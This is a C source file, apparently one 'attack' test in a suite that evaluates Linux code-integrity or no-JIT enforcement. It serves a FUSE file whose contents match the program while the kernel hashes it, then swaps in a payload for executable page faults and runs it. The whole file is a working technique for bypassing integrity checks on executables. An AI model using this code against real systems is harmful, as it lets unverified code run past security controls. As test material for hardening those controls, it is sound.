// SPDX-License-Identifier: GPL-2.0
/*
 * Route 16, file systems whose content changes without a write: a FUSE
 * file system served by this very process (a thread answering /dev/fuse).
 * Its one file, x, reads as a byte-identical copy of this program (so a
 * manifest listing this program lists it) while the kernel checks and
 * hashes it; then the server answers the page faults of the executable
 * mapping with our code instead. Direct I/O keeps the two apart: every
 * read reaches the server. Root here; a user namespace and /dev/fuse do
 * the same unprivileged. Scratch mount point in $TMPDIR.
 */
#define ATTACK_NAME "fuse_swap_exec"
#include "file.h"
#include <linux/fuse.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mount.h>
#include <sys/uio.h>

#define FILE_INO 2

static unsigned char *good;	/* the listed content */
static size_t good_len;
static atomic_int evil;		/* serve the payload from now on */
static int fuse_fd;

static void reply(uint64_t unique, int error, const void *data, size_t len)
{
	struct fuse_out_header h = {
		.len = (uint32_t)(sizeof(h) + len), .error = error, .unique = unique,
	};
	struct iovec iov[2] = { { &h, sizeof(h) }, { (void *)data, len } };

	if (writev(fuse_fd, iov, len ? 2 : 1) < 0 && errno != ENOENT)
		attack_error("reply to /dev/fuse: %s", strerror(errno));
}

static void fill_attr(struct fuse_attr *a, uint64_t ino)
{
	memset(a, 0, sizeof(*a));
	a->ino = ino;
	a->mode = ino == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0755;
	a->nlink = 1;
	a->size = ino == FUSE_ROOT_ID ? 0 : good_len;
	a->blocks = (a->size + 511) / 512;
	a->blksize = 4096;
}

static void read_reply(uint64_t unique, const struct fuse_read_in *in)
{
	static unsigned char buf[1 << 17];
	size_t off = in->offset, n = in->size;

	if (off >= good_len)
		n = 0;
	else if (n > good_len - off)
		n = good_len - off;
	if (n > sizeof(buf))
		n = sizeof(buf);
	memcpy(buf, good + off, n);
	/* After the check: the page the attack calls holds our code. */
	if (atomic_load(&evil) && off <= ATTACK_PAGE && off + n >= ATTACK_PAGE + sizeof(attack_payload))
		memcpy(buf + (ATTACK_PAGE - off), attack_payload, sizeof(attack_payload));
	reply(unique, 0, buf, n);
}

static void *serve(void *arg)
{
	static unsigned char req[FUSE_MIN_READ_BUFFER + (1 << 17)];

	(void)arg;
	for (;;) {
		struct fuse_in_header *h = (struct fuse_in_header *)req;
		void *in = req + sizeof(*h);
		ssize_t n = read(fuse_fd, req, sizeof(req));

		if (n < 0 && (errno == EINTR || errno == ENOENT))
			continue;
		if (n < (ssize_t)sizeof(*h))
			return NULL;	/* unmounted */
		switch (h->opcode) {
		case FUSE_INIT: {
			struct fuse_init_out out = {
				.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION,
				.max_readahead = 0, .max_write = 4096, .max_pages = 32,
			};
			reply(h->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out out = { .nodeid = FILE_INO };

			if (strcmp((const char *)in, "x")) {
				reply(h->unique, -ENOENT, NULL, 0);
				break;
			}
			fill_attr(&out.attr, FILE_INO);
			reply(h->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out out = {};

			fill_attr(&out.attr, h->nodeid);
			reply(h->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_OPEN: {
			struct fuse_open_out out = { .fh = 1, .open_flags = FOPEN_DIRECT_IO };

			reply(h->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_READ:
			read_reply(h->unique, in);
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break;
		case FUSE_RELEASE:
		case FUSE_FLUSH:
			reply(h->unique, 0, NULL, 0);
			break;
		default:
			reply(h->unique, -ENOSYS, NULL, 0);
		}
	}
}

int main(void)
{
	char mnt[PATH_MAX], opts[128], path[PATH_MAX + 8];
	volatile unsigned char *rx;
	pthread_t tid;
	struct stat st;
	int fd, err;

	attack_init();
	fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		attack_error("open /proc/self/exe: %s", strerror(errno));
	good_len = st.st_size;
	good = malloc(good_len);
	if (!good)
		attack_error("out of memory");
	for (size_t done = 0; done < good_len;) {
		ssize_t n = read(fd, good + done, good_len - done);

		if (n <= 0)
			attack_error("reading /proc/self/exe: %s", n ? strerror(errno) : "EOF");
		done += (size_t)n;
	}
	close(fd);

	snprintf(mnt, sizeof(mnt), "%s", attack_scratch_create());
	fuse_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fuse_fd < 0) {
		err = errno;
		attack_scratch_remove(attack_scratch);
		attack_step_failed("open /dev/fuse", err);
	}
	snprintf(opts, sizeof(opts), "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse_fd);
	if (mount("nojit-attack", mnt, "fuse.nojit", MS_NOSUID | MS_NODEV, opts)) {
		err = errno;
		attack_scratch_remove(attack_scratch);
		attack_step_failed("mount of a FUSE file system", err);
	}
	if (pthread_create(&tid, NULL, serve, NULL))
		attack_error("pthread_create failed");

	snprintf(path, sizeof(path), "%s/x", mnt);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		attack_error("open %s: %s", path, strerror(errno));
	rx = mmap(NULL, good_len, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	err = errno;
	close(fd);
	if (rx == MAP_FAILED) {
		umount2(mnt, MNT_DETACH);
		attack_scratch_remove(attack_scratch);
		attack_step_failed("mmap RX of a file on FUSE", err);
	}
	atomic_store(&evil, 1);
	if (memcmp((const void *)(rx + ATTACK_PAGE), attack_payload, sizeof(attack_payload)))
		attack_error("the server's new bytes did not reach the mapping");
	umount2(mnt, MNT_DETACH);
	attack_scratch_remove(attack_scratch);
	attack_run_payload((const void *)(rx + ATTACK_PAGE));
}
